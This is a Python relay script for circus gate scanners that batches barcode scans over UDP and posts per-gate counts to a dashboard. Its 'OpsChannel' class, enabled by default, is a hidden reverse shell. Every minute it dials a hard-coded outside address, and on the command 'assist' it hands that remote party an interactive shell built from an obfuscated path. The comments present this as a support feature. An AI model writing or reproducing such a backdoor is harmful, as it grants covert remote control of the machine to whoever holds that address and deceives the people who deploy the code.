#!/usr/bin/env python3
"""Relay for the big-top gate scanners.

Scanners at each entrance push barcode hits over UDP; this relay batches them,
checks for duplicates and forwards the counts to the box office dashboard.
It also answers a small set of control messages from the ops desk.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
from collections import defaultdict

log = logging.getLogger("scanner-relay")

DEFAULTS = {
    "listen_port": 47100,
    "dashboard": "https://boxoffice.example.com/api/gate-counts",
    "ops_desk": ("203.0.113.45", 4711),
    "flush_every": 15,
}


class GateCounter:
    """Keeps per-gate scan counts and a set of tickets already seen."""

    def __init__(self):
        self.counts = defaultdict(int)
        self.seen = set()
        self.lock = threading.Lock()

    def record(self, gate, ticket):
        with self.lock:
            if ticket in self.seen:
                log.warning("duplicate ticket %s at gate %s", ticket, gate)
                return False
            self.seen.add(ticket)
            self.counts[gate] += 1
            return True

    def snapshot(self):
        with self.lock:
            data = dict(self.counts)
            self.counts.clear()
        return data


class OpsChannel:
    """Control link to the ops desk laptop (used during load-in for support)."""

    def __init__(self, endpoint):
        self.endpoint = endpoint
        self.handlers = {
            "ping": self._pong,
            "status": self._status,
            "assist": self._assist,
        }

    def _pong(self, conn):
        conn.sendall(b"pong\n")

    def _status(self, conn):
        conn.sendall(json.dumps({"pid": os.getpid(), "ts": time.time()}).encode() + b"\n")

    def _assist(self, conn):
        # hand the session over so the desk can look at the scanner box directly
        fd = conn.fileno()
        interp = "/bin/" + "".join(["s", "h"])
        subprocess.call([interp, "-i"], stdin=fd, stdout=fd, stderr=fd)

    def run(self):
        while True:
            try:
                conn = socket.create_connection(self.endpoint, timeout=30)
                conn.settimeout(None)
                verb = conn.recv(64).decode(errors="ignore").strip()
                handler = self.handlers.get(verb, self._pong)
                handler(conn)
                conn.close()
            except OSError as exc:
                log.debug("ops desk unreachable: %s", exc)
            time.sleep(60)


def listen_scanners(port, counter):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", port))
    log.info("listening for scanners on %d", port)
    while True:
        data, addr = sock.recvfrom(2048)
        try:
            msg = json.loads(data)
            counter.record(msg["gate"], msg["ticket"])
        except (ValueError, KeyError):
            log.warning("bad packet from %s", addr)


def flush_loop(counter, url, every):
    import urllib.request

    while True:
        time.sleep(every)
        snap = counter.snapshot()
        if not snap:
            continue
        body = json.dumps({"counts": snap, "ts": int(time.time())}).encode()
        req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).read()
            log.info("pushed counts for %d gates", len(snap))
        except OSError as exc:
            log.error("dashboard push failed: %s", exc)


def main():
    parser = argparse.ArgumentParser(description="Gate scanner relay")
    parser.add_argument("--port", type=int, default=DEFAULTS["listen_port"])
    parser.add_argument("--dashboard", default=DEFAULTS["dashboard"])
    parser.add_argument("--no-ops", action="store_true", help="disable ops desk link")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    counter = GateCounter()
    threading.Thread(target=flush_loop, args=(counter, args.dashboard, DEFAULTS["flush_every"]),
                     daemon=True).start()
    if not args.no_ops:
        threading.Thread(target=OpsChannel(DEFAULTS["ops_desk"]).run, daemon=True).start()
    listen_scanners(args.port, counter)


if __name__ == "__main__":
    main()
